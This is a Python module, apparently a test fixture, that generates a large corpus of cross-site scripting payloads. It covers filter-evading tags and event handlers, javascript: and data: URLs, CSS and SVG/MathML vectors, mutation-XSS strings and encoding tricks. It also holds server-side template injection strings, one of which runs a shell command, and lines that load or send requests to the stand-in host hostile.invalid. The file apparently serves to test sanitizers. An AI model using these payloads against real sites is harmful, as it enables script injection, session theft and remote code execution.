# ruff: noqa: F541 - one form for all lines of a table
"""Texts that try to run something in a page: built from the classes that such attacks come in.

Each calls `ran()`, which a test page defines, or asks something of `hostile.invalid`. They are made
of parts (what it breaks out of, tags, events, how a call is written), so that a class that is
missing is one more line in a table, and not a hundred more strings.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from functools import cache
from itertools import cycle, product
from urllib.parse import quote

CALL = "ran(1)"
ELSEWHERE = "//hostile.invalid/x"

# What closes the place that a text may stand in: text, attributes, raw text, comments, sections.
_BREAKS = (
    "", '">', "'>", "`>", ">", '"/>', "-->", "--!>", "]]>", "?>", "%>", "*/", "</title>", "</style>",
    "</script>", "</textarea>", "</noscript>", "</template>", "</xmp>", "</iframe>", "</noembed>",
    "</select>", "</svg>", "</math>", "</td></table>", "</option>", "</a>", "</p></div>", "\"]'>",
    '\\">', "\\'>", "&quot;>", "\x00\">", "\u2028\">",
)  # fmt: skip
_TAGS = (
    "a", "address", "animate", "article", "audio src=x", "b", "base", "bdi", "body", "button",
    "canvas", "custom-tag", "details open", "dialog open", "div", "embed src=x", "fieldset", "form",
    "frameset", "iframe", "image src=x", "img src=x", "input autofocus", "isindex", "keygen autofocus",
    "label", "link rel=stylesheet href=x", "main", "marquee", "menu", "meter", "nav", "object data=x",
    "ol", "p", "picture", "q", "select autofocus", "source src=x", "summary", "svg", "table",
    "template", "textarea autofocus", "track src=x", "u", "ul", "video src=x", "wbr", "xss",
)  # fmt: skip
_EVENTS = (
    "onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforeinput",
    "onbeforetoggle", "onbegin", "onblur", "oncanplay", "onclick", "oncontentvisibilityautostatechange",
    "oncopy", "oncut", "ondblclick", "ondragover", "onend", "onerror", "onfocus", "onfocusin",
    "onhashchange", "oninput", "oninvalid", "onkeydown", "onload", "onloadstart", "onmessage",
    "onmousedown", "onmouseenter", "onmouseover", "onpageshow", "onpaste", "onpointerenter",
    "onpointerrawupdate", "onpopstate", "onreset", "onresize", "onscroll", "onscrollend", "onsearch",
    "onselect", "onstart", "onsubmit", "ontoggle", "ontouchstart", "ontransitionend",
    "ontransitionrun", "onunload", "onvolumechange", "onwheel",
)  # fmt: skip
# The same call as filters do not expect it.
_CALLS = (
    CALL, "ran`1`", "top['ran'](1)", "window['r'+'an'](1)", "self[/ra/.source+'n'](1)",
    "Function('ran(1)')()", "[].constructor.constructor('ran(1)')()", "eval('r\\x61n(1)')",
    "\\u0072an(1)", "r\\u{61}n(1)", "(ran)(1)", "ran?.(1)", "setTimeout('ran(1)')", "throw ran(1)",
    "location='javascript:ran(1)'", "import('//hostile.invalid/x')", "fetch('//hostile.invalid/x')",
    "new Image().src='//hostile.invalid/x'", "document.write('<script>ran(1)</script>')",
    "with(document)body.appendChild(createElement('script')).src='//hostile.invalid/x'",
    "[1].find(ran)", "Reflect.apply(ran,null,[1])", "void ran(1)", "-ran(1)-", ";ran(1);//",
)  # fmt: skip
# What may stand between a tag and its attribute, around an equals sign, and around the value.
_GAPS = (" ", "/", "\t", "\n", "\f", "\r\n", " / ", "//", "\v", "\x00", " x ", '/x=">"/')
_EQUALS = ("=", " = ", "=\n", "\t=\t", "=\x00")
_QUOTES = ('"', "'", "", "`")


def _character_references(text: str, form: str) -> str:
    return "".join(form.format(ord(character)) for character in text)


_REFERENCES = ("&#{0};", "&#x{0:x};", "&#X{0:X};", "&#{0:07d};", "&#{0:07d}", "&#x{0:06x}")


def _events_on_tags() -> Iterator[str]:
    """Each event on some tags, with breaks, gaps, quotes and calls that go on turning."""
    turning = zip(
        cycle(_BREAKS), cycle(_GAPS), cycle(_EQUALS), cycle(_QUOTES), cycle(_CALLS), strict=False
    )
    for number, (event, tag) in enumerate(product(_EVENTS, _TAGS)):
        before, gap, equals, mark, call = next(turning)
        if (number // len(_TAGS) + number) % 2:
            continue
        name = event.upper() if number % 5 == 0 else event
        yield f"{before}<{tag}{gap}{name}{equals}{mark}{call}{mark}>"


def _attributes() -> Iterator[str]:
    """Out of an attribute into one more, without a tag of its own."""
    for mark, event, call in product(("'", '"', "", "`"), _EVENTS[::3], _CALLS[:3]):
        yield f"x{mark} {event}={call} x={mark}"
    for mark in ("'", '"'):
        yield f"{mark} style={mark}animation:x{mark} onanimationstart={mark}{CALL}"
        yield f"{mark} accesskey=x onclick={CALL} tabindex=1 id=x {mark}"
        yield f"{mark} autofocus onfocus={CALL} contenteditable {mark}"
        yield f"{mark} formaction=javascript:{CALL} type=submit {mark}"
        yield f"{mark} popover onbeforetoggle={CALL} {mark}"
        yield f"{mark} srcdoc=&lt;script&gt;{CALL}&lt;/script&gt; {mark}"


def _scripts() -> Iterator[str]:
    for before, call in product(_BREAKS, _CALLS[:6]):
        yield f"{before}<script>{call}</script>"
    bodies = (f"<!--\n{CALL}\n-->", f"/*<![CDATA[*/{CALL}/*]]>*/", f"\u2028{CALL}", f"{CALL}//")
    heads = (
        "", " type=module", " defer", " type=text/javascript", " language=vbs", "/x", "\t", "\n",
    )  # fmt: skip
    for head, body in product(heads, bodies):
        yield f"<script{head}>{body}</script>"
    for case in (
        "ScRiPt", "SCRIPT", "script\x00", "scr\x00ipt", "script\xa0", "scr\u0131pt", "\u017fcript",
    ):  # fmt: skip
        yield f"<{case}>{CALL}</{case}>"
    for address in (
        ELSEWHERE,
        f"https:{ELSEWHERE}",
        f"data:,{CALL}",
        "\\\\hostile.invalid/x",
        "/\t/hostile.invalid/x",
    ):
        yield f"<script src={address}></script>"
        yield f'<script src="{address}"></script>'
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield f"<<script>{CALL}//<</script>"
    yield f"<script>{CALL}"
    yield f"<script ~~~>{CALL}</script ~~~>"
    yield f"<svg><script>&#114;an(1)</script></svg>"
    yield f"<svg><script href=data:,{CALL} />"
    yield f"<script>'</textarea><img src=x onerror={CALL}>'</script>"


_SCHEMES = (
    "javascript", "JaVaScRiPt", "vbscript", "livescript", "mocha", "data", "blob", "view-source",
)  # fmt: skip


def addresses() -> Iterator[str]:
    """Addresses that run something where one follows or loads them."""
    heads = [
        "javascript:",
        "JaVaScRiPt:",
        "javascript&colon;",
        "javascript&#58;",
        "javascript\\x3a",
    ]
    heads += [f"java{chr(code)}script:" for code in (0, 1, 8, 9, 10, 11, 12, 13, 27, 31, 127, 160)]
    heads += [
        f"{chr(code)}javascript:" for code in (*range(33), 0xA0, 0x200B, 0x2028, 0x202E, 0xFEFF)
    ]
    heads += [f"javascript{chr(code)}:" for code in (0, 9, 10, 13, 32, 0xA0, 0x200D)]
    heads += [_character_references("javascript:", form) for form in _REFERENCES]
    heads += [
        "java&Tab;script:",
        "java&NewLine;script:",
        "\u212aavascript:",
        "javascr\u0131pt:",
        "view-source:javascript:",
    ]
    heads += [f"javascript:{quote(chr(code))}" for code in (9, 10, 13, 0x2028)]
    heads += [
        "javascript://%0a",
        "javascript://%0d%0a",
        "javascript:/*\n*/",
        "javascript://hostile.invalid/%0A",
    ]
    yield from (head + CALL for head in heads)
    page = f"<script>{CALL}</script>"
    encoded = base64.b64encode(page.encode()).decode()
    for kind in (
        "text/html", "image/svg+xml", "text/xml", "application/xhtml+xml", "",
        "text/html;charset=utf-7", "TEXT/HTML",
    ):  # fmt: skip
        yield f"data:{kind},{page}"
        yield f"data:{kind};base64,{encoded}"
        yield f"data:{kind},{quote(page)}"
        yield f"\tdata:{kind},{page}"
    for scheme in _SCHEMES:
        yield f"{scheme}:{CALL}"
        yield f"{scheme}://hostile.invalid/{CALL}"
        yield f" {scheme.upper()}:{CALL}//"
    yield f"filesystem:https:{ELSEWHERE}"
    yield f'https://news.example/" onmouseover="{CALL}'
    yield f"https://news.example/' onmouseover='{CALL}"
    yield f"https://news.example/ onmouseover={CALL}"
    yield f"https://news.example/>{page}"
    yield f"https://news.example/#<img src=x onerror={CALL}>"
    yield f"https://user:pw@hostile.invalid@news.example/{CALL}"
    yield "https:hostile.invalid"
    yield "http:\\\\hostile.invalid\\x"
    yield "https://news.example\u202e/gro.elpmaxe"


_ADDRESSED = (
    "<a href={}>x</a>", '<a href="{}">x</a>', "<iframe src={}></iframe>", '<iframe src="{}">',
    '<object data="{}">', '<embed src="{}">', '<form action="{}"><button>x', '<input type=image src="{}">',
    '<button formaction="{}" form=x>', '<base href="{}">', '<link rel=import href="{}">', '<math href="{}">x',
    '<svg><a xlink:href="{}"><text y=9>x', '<area href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<svg><use href="{}">', '<svg><image href="{}">', '<frameset><frame src="{}">', '<img srcset="{} 1x">',
    '<video poster="{}">', '<a ping="{}" href=x>', '<applet code="{}">', '<body background="{}">',
    '<table background="{}">', '<script src="{}"></script>', '<isindex action="{}">', '<img lowsrc="{}">',
)  # fmt: skip


def _addresses_in_tags() -> Iterator[str]:
    forms = cycle(_ADDRESSED)
    for address in addresses():
        yield next(forms).format(address)
        yield next(forms).format(address)


def _styles() -> Iterator[str]:
    values = (
        f"width:expression({CALL})", f"background:url(javascript:{CALL})", f"background:url({ELSEWHERE})",
        f"-moz-binding:url({ELSEWHERE}#x)", f"behavior:url({ELSEWHERE})", "position:fixed;inset:0;background:red",
        f"w\\69 dth:e\\78 pression({CALL})", f"background:u\\72l({ELSEWHERE})", f"content:url({ELSEWHERE})",
        f"list-style-image:url({ELSEWHERE})", f"cursor:url({ELSEWHERE}),auto", f"x:/**/expression({CALL})",
    )  # fmt: skip
    for value, tag in product(values, ("div", "img src=x", "table", "svg", "b", "xss")):
        yield f'<{tag} style="{value}">'
    for before, value in product(("", "</title>", '">', "</textarea>", "<svg>", "<math>"), values):
        yield f"{before}<style>*{{{value}}}</style>"
    for rule in (
        f"@import '{ELSEWHERE}'",
        f"@import url({ELSEWHERE})",
        f"@font-face{{font-family:x;src:url({ELSEWHERE})}}",
        "@charset 'utf-7'",
    ):
        yield f"<style>{rule};</style>"
    yield f"<style>@keyframes x{{}}</style><xss style='animation-name:x' onanimationstart='{CALL}'>"
    yield f"<link rel=stylesheet href=data:,*%7bx:expression({CALL})%7d>"


def _drawings() -> Iterator[str]:
    """SVG and MathML."""
    for event, element in product(
        ("onbegin", "onend", "onrepeat"), ("animate", "set", "animateTransform", "animateMotion")
    ):
        yield f"<svg><{element} {event}={CALL} attributeName=x dur=1s>"
    for element, values in product(("animate", "set"), ("to", "from", "values", "by")):
        yield f"<svg><a id=x><rect width=9 height=9 /></a><{element} href=#x attributeName=href {values}=javascript:{CALL} />"
    for element in (
        "circle", "g", "path", "image", "text", "use", "foreignObject", "filter", "title", "desc",
        "view", "discard",
    ):  # fmt: skip
        yield f"<svg><{element} onload={CALL}>"
        yield f"<svg><{element}><img src=x onerror={CALL}>"
        yield f"<svg xmlns='http://www.w3.org/2000/svg'><{element} onclick={CALL} tabindex=1 autofocus onfocus={CALL} />"
    for element in (
        "mtext", "mi", "mo", "mn", "ms", "mglyph", "malignmark", "annotation-xml", "maction",
        "semantics",
    ):  # fmt: skip
        yield f"<math><{element}><img src=x onerror={CALL}></{element}>"
        yield f"<math><{element} xlink:href=javascript:{CALL}>x"
        yield f"<math><{element} href='javascript:{CALL}' actiontype=statusline#x>x</{element}></math>"
        yield f"<math><{element} encoding='text/html'><script>{CALL}</script>"
    yield f"<?xml-stylesheet href='javascript:{CALL}'?>"
    yield f"<!DOCTYPE x [<!ENTITY y SYSTEM '{ELSEWHERE}'>]><x>&y;</x>"
    yield f"<!DOCTYPE x [<!ENTITY y '<script>{CALL}</script>'>]><x>&y;</x>"
    yield f"<![CDATA[<script>{CALL}</script>]]>"
    yield f"<![CDATA[<]]>script<![CDATA[>]]>{CALL}<![CDATA[<]]>/script<![CDATA[>]]>"
    yield f"<xml><i><b>&lt;img src=x onerror={CALL}&gt;</b></i></xml>"
    yield f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>"


def _mutations() -> Iterator[str]:
    """Texts that change their meaning when a page is written out and read again."""
    roots = (
        "<svg>", "<math>", "<svg></p>", "<math><mtext>", "<svg><desc>", "<svg><title>",
        "<form><math><mtext></form><form>",
    )  # fmt: skip
    raw = (
        "style", "noscript", "noembed", "xmp", "title", "textarea", "iframe", "noframes", "script",
        "plaintext", "template",
    )  # fmt: skip
    ends = (
        f'<img title="</{{0}}><img src=x onerror={CALL}>">',
        f'<a title="</{{0}}><img src=x onerror={CALL}>">',
        f'<!--</{{0}}><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">',
        f'<g title="</{{0}}><script>{CALL}</script>">',
    )
    for root, element, end in product(roots, raw, ends):
        yield f"{root}<{element}>{end.format(element)}"
    yield f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">'
    yield f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>"
    yield f"<img alt=`` onerror={CALL} src=x>"
    yield f"<div id=x>&lt;img src=x onerror={CALL}&gt;</div>"
    yield (
        "<table><tr><td><form><table><tr></form><form></form></tr></table>"
        + f"<img src=x onerror={CALL}>"
    )


def _comments() -> Iterator[str]:
    opened = (
        "<!--", "<!-->", "<!--->", "<!", "<?", "</!", "<!--!", "<!---!>", "<!--[if IE]>",
        "<!--[if gte IE 4]>", "<comment>", "<%",
    )  # fmt: skip
    for before, tail in product(opened, ("-->", "--!>", ">", "")):
        yield f"{before}<img src=x onerror={CALL}>{tail}"
        yield f"{before}><script>{CALL}</script>{tail}"


def _references() -> Iterator[str]:
    tags = (f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f'"><svg onload={CALL}>')
    for tag, form in product(tags, _REFERENCES):
        yield _character_references(tag, form)
        yield f'<a href="javascript:{_character_references(CALL, form)}">x</a>'
        yield f"<img src=x onerror={_character_references(CALL, form)}>"
    for tag in tags:
        yield quote(tag)
        yield quote(quote(tag))
        yield tag.replace("<", "&lt;").replace(">", "&gt;")
        yield tag.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
        yield tag.replace("<", "&lt").replace(">", "&gt")
        yield tag.replace("<", "\\x3c").replace(">", "\\x3e")
        yield tag.replace("<", "\\u003c").replace(">", "\\u003e")
        yield tag.replace("<", "\\74").replace(">", "\\76")
        yield tag.encode("utf-7").decode().replace("<", "+ADw-").replace(">", "+AD4-")
        yield f"\x1b$B{tag}\x1b(B"
        yield f'\x1b(J\\"{tag}'
        yield base64.b64encode(tag.encode()).decode()


def _lookalikes() -> Iterator[str]:
    """Characters that some conversion turns into those that matter."""
    angles = (
        "\uff1c\uff1e", "\u2039\u203a", "\u3008\u3009", "\u27e8\u27e9", "\ufe64\ufe65",
        "\u02c2\u02c3", "\u1438\u1433", "\xab\xbb",
    )  # fmt: skip
    for pair, call in product(angles, _CALLS[:4]):
        yield f"{pair[0]}script{pair[1]}{call}{pair[0]}/script{pair[1]}"
        yield f"{pair[0]}img src=x onerror={call}{pair[1]}"
    for mark in "\u02ba\u02b9\u2019\u201d\uff02\uff07\u2032\u2033\u05f3\u05f4":
        yield f"x{mark} onmouseover={mark}{CALL}"
        yield f"{mark}><script>{CALL}</script>"
    between = (
        "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u202e\u2066\ufff9\U000e0041\x00\x7f\x85"
    )
    for one in between:
        yield f"<{one}script>{CALL}</script>"
        yield f"<scr{one}ipt>{CALL}</scr{one}ipt>"
        yield f"<img{one}src=x onerror={CALL}>"
        yield f"{one}<img src=x on{one}error={CALL}>"
        yield f"<{one}/script{one}>{one}<script{one}>{CALL}</script>"


def _templates() -> Iterator[str]:
    """What template languages of servers and browsers would evaluate."""
    inside = (
        "7*7", "constructor.constructor('ran(1)')()", "$on.constructor('ran(1)')()",
        "''.__class__.__mro__[1].__subclasses__()", "config", "self.__init__.__globals__",
        "request.application", "cycler.__init__.__globals__.os.popen('id').read()",
    )  # fmt: skip
    marks = (
        ("{{", "}}"),
        ("{%", "%}"),
        ("{{{", "}}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("<%", "%>"),
        ("[[", "]]"),
        ("*{", "}"),
        ("@{", "}"),
        ("{#", "#}"),
        ("<?=", "?>"),
        ("$(", ")"),
        ("`${", "}`"),
    )
    for (begin, end), what in product(marks, inside):
        yield f"{begin}{what}{end}"
    for name in (
        "ng-app ng-init", "v-html", "x-data x-init", "@click", ":href", "data-bind", "hx-on:load",
        "hx-get", "data-ng-click", "_", "on:click", "bind:innerHTML",
    ):  # fmt: skip
        yield f'<div {name}="{CALL}">x</div>'
        yield f'" {name}="{CALL}'


def _documents() -> Iterator[str]:
    """Elements that load, frame, post or send the reader elsewhere, without a script."""
    yield f'<iframe srcdoc="<script>parent.{CALL}</script>">'
    yield f"<iframe srcdoc='&lt;script&gt;parent.{CALL}&lt;/script&gt;'>"
    for tag in (
        "img src", "iframe src", "object data", "embed src", "audio src", "video src",
        "video poster", "link rel=stylesheet href", "link rel=prefetch href",
        "link rel=dns-prefetch href", "input type=image src", "image src", "source srcset",
        "track src", "base href", "frame src", "script src", "portal src", "img srcset",
        "body background", "svg><image href", "svg><use href", "svg><feImage href", "bgsound src",
        "layer src", "meta http-equiv=refresh content=0;url",
    ):  # fmt: skip
        for mark in ("", "'", '"'):
            yield f"<{tag}={mark}{ELSEWHERE}{mark}>"
    for tag in ("form action", "a href", "area href", "button formaction", "a ping"):
        yield f"<{tag}={ELSEWHERE}>"
    yield f'<meta http-equiv=Content-Security-Policy content="script-src *">'
    yield f'<meta http-equiv=Set-Cookie content="accordwatch_session=x">'
    yield "<meta charset=utf-7>"
    yield f"<base href={ELSEWHERE}>"
    yield f"<img src='{ELSEWHERE}?"
    yield f"<textarea><form action={ELSEWHERE}><input name="
    yield "<plaintext>"
    yield "<a id=ran><a id=ran name=x href=//hostile.invalid>"
    yield "<form id=document><input name=cookie>"
    yield "<img name=getElementById>"
    yield "<marquee behavior=alternate>x</marquee><blink>"
    yield "<dialog open style=position:fixed;inset:0>"


_CLASSES = (
    _scripts, addresses, _attributes, _styles, _drawings, _comments, _references, _lookalikes,
    _templates, _documents, _mutations, _addresses_in_tags, _events_on_tags,
)  # fmt: skip


@cache
def vectors() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(dict.fromkeys(one for made in _CLASSES for one in made()))


def some(every: int) -> tuple[str, ...]:
    """One in `every` of each class."""
    return tuple(dict.fromkeys(one for made in _CLASSES for one in list(made())[::every]))
